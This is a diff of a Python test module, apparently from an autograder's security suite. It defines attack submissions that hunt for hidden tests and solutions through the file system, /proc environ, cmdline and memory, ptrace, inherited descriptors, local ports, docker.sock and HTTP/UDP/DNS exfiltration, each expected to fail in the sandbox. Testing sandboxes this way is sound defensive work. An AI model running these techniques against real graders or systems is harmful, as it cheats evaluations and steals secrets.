@@ -1,25 +1,25 @@
-"""Reading the answers around the process: on disk, in /proc, of others, over the network.
+"""Reading the answers outside the process: on disk, in /proc, in other processes, by network.
 
-As in memory, what is found is told in an exception.
+As in `reading_the_process`, an exception reports what was found.
 """
 
 from attack import ALL_ROADS, LAYERS, PACKAGE, SOLUTION, ZIP, Attack
-from reading_the_process import LEFT, steals
+from reading_the_process import ONE_BLOCK_MISSING, steals
 
 ATTACKS = (
     Attack(
         "walks the file system",
         tries="Searches every folder for tests, the solution, gradebooks and others' submissions.",
         must="No points and nothing leaked: the sandbox shows none of these files.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import os
 
             WANTED = ("hidden", "solution", "gradebook", "expected", "grades", "notes", "submitted")
             DULL = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin", "/opt")
 
             def steal(dprev):
-                told, seen = [], 0
+                leaked, seen = [], 0
                 for top in ("/", os.getcwd(), os.path.dirname(__file__) + "/../../../.."):
                     for folder, folders, files in os.walk(top):
                         folders[:] = [f for f in folders if os.path.join(folder, f) not in DULL]
@@ -28,14 +28,15 @@ ATTACKS = (
                             path = os.path.join(folder, name)
                             if any(word in path for word in WANTED) and "python3" not in path:
                                 try:
-                                    told.append(path + ": " + open(path, errors="replace").read(99))
+                                    text = open(path, errors="replace").read(99)
+                                    leaked.append(f"{path}: {text}")
                                 except OSError:
                                     pass
-                        if seen > 20000 or len(told) > 5:
-                            return " | ".join(told)
-                return " | ".join(told) or "nothing here"
+                        if seen > 20000 or len(leaked) > 5:
+                            return " | ".join(leaked)
+                return " | ".join(leaked) or "nothing here"
         """),
-        twin=SOLUTION.but(
+        twin=SOLUTION.plus(
             appended={
                 LAYERS: """
                     from pathlib import Path
@@ -50,12 +51,12 @@ ATTACKS = (
         "opens the usual places by name",
         tries="Opens files where graders keep things: /autograder, /tmp, the home, shared memory.",
         must="No points and nothing leaked: none of these places can be read.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import glob, os
 
             def steal(dprev):
-                told = []
+                leaked = []
                 for pattern in (
                     "/tmp/**/solution*", "/tmp/**/*.db", "/tmp/**/expected*", "/tmp/*/*",
                     "/var/tmp/*", "/dev/shm/*", "/run/lock/*", "/autograder/**", "/home/*/*",
@@ -65,10 +66,10 @@ ATTACKS = (
                     for path in glob.glob(pattern, recursive=True)[:50]:
                         try:
                             with open(path, errors="replace") as file:
-                                told.append(f"{path}: {file.read(60)}")
+                                leaked.append(f"{path}: {file.read(60)}")
                         except OSError:
                             pass
-                return " | ".join(told) or "nothing here"
+                return " | ".join(leaked) or "nothing here"
         """),
         roads=(ZIP,),
     ),
@@ -76,25 +77,25 @@ ATTACKS = (
         "imports the grader",
         tries="Imports autograder, the hidden suites and the solution as modules.",
         must="No points: the sandbox cannot import this package.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import importlib, sys
 
             def steal(dprev):
                 sys.path[:0] = ["/", "/box", "/app", "/autograder", "..", "../../.."]
-                told = []
+                leaked = []
                 for name in ("autograder", "autograder.problem_1.rubric", "solution",
                              "autograder.grading.grade", "lib_solution", "tests.hidden.test_fc",
                              "test_fc", "nbgrader"):
                     try:
                         module = importlib.import_module(name)
-                        told.append(f"{name} is {module}")
+                        leaked.append(f"{name} is {module}")
                     except ImportError as error:
-                        told.append(str(error))
+                        leaked.append(str(error))
                 for module in list(sys.modules.values()):
                     if "solution" in str(getattr(module, "__file__", "")):
                         return module.fc.backward
-                return "; ".join(told)
+                return "; ".join(leaked)
         """),
     ),
     Attack(
@@ -103,21 +104,21 @@ ATTACKS = (
         must=(
             "No points and nothing leaked: its own environment is new, the others are out of sight."
         ),
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import glob, os
 
             def steal(dprev):
-                told = [f"{k}={v}" for k, v in os.environ.items() if "PASS" in k or "GRADE" in k]
+                leaked = [f"{k}={v}" for k, v in os.environ.items() if "PASS" in k or "GRADE" in k]
                 for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
                     try:
                         text = open(path, "rb").read().decode(errors="replace")
-                        told += [w for w in text.split("\\0") if "GRADE" in w or "PASS" in w]
+                        leaked += [w for w in text.split("\\0") if "GRADE" in w or "PASS" in w]
                     except OSError as error:
-                        told.append(str(error)[:20])
-                return " | ".join(told) or "nothing here"
+                        leaked.append(str(error)[:20])
+                return " | ".join(leaked) or "nothing here"
         """),
-        twin=SOLUTION.but(
+        twin=SOLUTION.plus(
             files={PACKAGE: "import os\n\nDEBUG = os.environ.get('DEBUG', 'no') == 'yes'"}
         ),
     ),
@@ -125,32 +126,32 @@ ATTACKS = (
         "reads command lines in /proc",
         tries="Reads /proc/*/cmdline of the grader and other processes for seeds and paths.",
         must="No points and nothing leaked: the sandbox sees at most its own processes.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import glob
 
             def steal(dprev):
-                told = []
+                leaked = []
                 for path in glob.glob("/proc/[0-9]*/cmdline") + ["/proc/1/cmdline"]:
                     try:
                         words = open(path, "rb").read().decode(errors="replace").split("\\0")
                         if "worker.py" not in " ".join(words):
-                            told.append(" ".join(words))
+                            leaked.append(" ".join(words))
                     except OSError:
                         pass
-                return " | ".join(told) or "nothing here"
+                return " | ".join(leaked) or "nothing here"
         """),
     ),
     Attack(
         "reads the memory of other processes",
         tries="Searches /proc/PID/mem of its parent and of every process it can see.",
         must="No points and nothing leaked: the parent is the worker, which holds no answers.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import os
 
             def steal(dprev):
-                told = []
+                leaked = []
                 for pid in {os.getppid(), 1, *range(max(1, os.getpid() - 40), os.getpid())}:
                     try:
                         maps = open(f"/proc/{pid}/maps").read().splitlines()
@@ -161,118 +162,118 @@ ATTACKS = (
                                 held = memory.read(min(high - low, 2**22))
                                 at = held.find(b"canary" + b"-")
                                 if at >= 0:
-                                    told.append(held[at:at + 30].decode(errors="replace"))
+                                    leaked.append(held[at:at + 30].decode(errors="replace"))
                     except (OSError, ValueError, OverflowError) as error:
-                        told.append(f"{pid}: {type(error).__name__}")
-                return " ".join(told)
+                        leaked.append(f"{pid}: {type(error).__name__}")
+                return " ".join(leaked)
         """),
     ),
     Attack(
         "traces its parent",
         tries="Attaches to the worker with ptrace and process_vm_readv, through ctypes.",
         must="No points: these system calls are denied.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import ctypes, os
 
             def steal(dprev):
                 libc = ctypes.CDLL(None, use_errno=True)
-                told = []
+                leaked = []
                 for pid in (os.getppid(), 1):
                     for request in (16, 0x4206):  # ATTACH, SEIZE
                         result = libc.ptrace(request, pid, 0, 0)
-                        told.append(f"ptrace {result} {ctypes.get_errno()}")
+                        leaked.append(f"ptrace {result} {ctypes.get_errno()}")
                     held = ctypes.create_string_buffer(64)
                     local = (ctypes.c_size_t * 2)(ctypes.addressof(held), 64)
                     remote = (ctypes.c_size_t * 2)(id(libc), 64)
                     result = libc.process_vm_readv(pid, local, 1, remote, 1, 0)
-                    told.append(f"process_vm_readv {result}")
-                return "; ".join(told)
+                    leaked.append(f"process_vm_readv {result}")
+                return "; ".join(leaked)
         """),
     ),
     Attack(
         "follows inherited file descriptors",
         tries="Lists /proc/self/fd, and reads and seeks every descriptor it inherited.",
         must="No points and no file content: only outgoing pipes are inherited.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import os
 
             def steal(dprev):
-                told = []
+                leaked = []
                 for number in range(256):
                     try:
-                        told.append(f"{number}: {os.readlink(f'/proc/self/fd/{number}')}")
+                        leaked.append(f"{number}: {os.readlink(f'/proc/self/fd/{number}')}")
                     except OSError:
                         pass
                     try:
                         os.set_blocking(number, False)
-                        told.append(repr(os.pread(number, 60, 0)))
-                        told.append(repr(os.read(number, 60)))
+                        leaked.append(repr(os.pread(number, 60, 0)))
+                        leaked.append(repr(os.read(number, 60)))
                     except OSError:
                         pass
-                return " ".join(told)
+                return " ".join(leaked)
         """),
     ),
     Attack(
         "connects to local services",
         tries="Connects to every port of the loopback interface, and to services by name.",
         must="No points and no connection: sockets are not available.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import socket, urllib.request
 
             def steal(dprev):
-                told = []
+                leaked = []
                 for port in range(1, 65536):
                     try:
                         with socket.create_connection(("127.0.0.1", port), timeout=0.02) as found:
-                            told.append(f"{port}: {found.recv(60)!r}")
+                            leaked.append(f"{port}: {found.recv(60)!r}")
                     except OSError as error:
                         if port == 1:
-                            told.append(f"{type(error).__name__} {error.errno}")
+                            leaked.append(f"{type(error).__name__} {error.errno}")
                         if error.errno == 1:
                             break
                 for name in ("\\0grader", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
                     try:
                         with socket.socket(socket.AF_UNIX) as found:
                             found.connect(name)
-                            told.append(repr(found.recv(60)))
+                            leaked.append(repr(found.recv(60)))
                     except OSError as error:
-                        told.append(type(error).__name__)
-                return " ".join(told)
+                        leaked.append(type(error).__name__)
+                return " ".join(leaked)
         """),
-        twin=SOLUTION.but(files={PACKAGE: "import socket, urllib.request"}),
+        twin=SOLUTION.plus(files={PACKAGE: "import socket, urllib.request"}),
         roads=(ZIP,),
     ),
     Attack(
         "phones home",
         tries="Sends the inputs out by HTTP, UDP and DNS, and asks a friend's server for answers.",
         must="No points and nothing sent: there is no network and no resolver.",
-        over=LEFT,
-        does=steals("""
+        baseline=ONE_BLOCK_MISSING,
+        changes=steals("""
             import socket, urllib.request
 
             def steal(dprev):
-                told = []
+                leaked = []
                 try:
                     query = dprev.tobytes()[:30].hex()
                     answer = urllib.request.urlopen(f"http://127.0.0.1:8080/{query}", timeout=1)
                     return answer.read()
                 except OSError as error:
-                    told.append(str(error))
+                    leaked.append(str(error))
                 for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM):
                     for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16, 17, 40):
                         try:
                             socket.socket(family, kind).sendto(b"inputs", ("127.0.0.1", 53))
-                            told.append("sent")
+                            leaked.append("sent")
                         except (OSError, TypeError) as error:
-                            told.append(type(error).__name__)
+                            leaked.append(type(error).__name__)
                 try:
-                    told.append(socket.gethostbyname("localhost"))
+                    leaked.append(socket.gethostbyname("localhost"))
                 except OSError as error:
-                    told.append(str(error))
-                return " ".join(told)
+                    leaked.append(str(error))
+                return " ".join(leaked)
         """),
     ),
 )
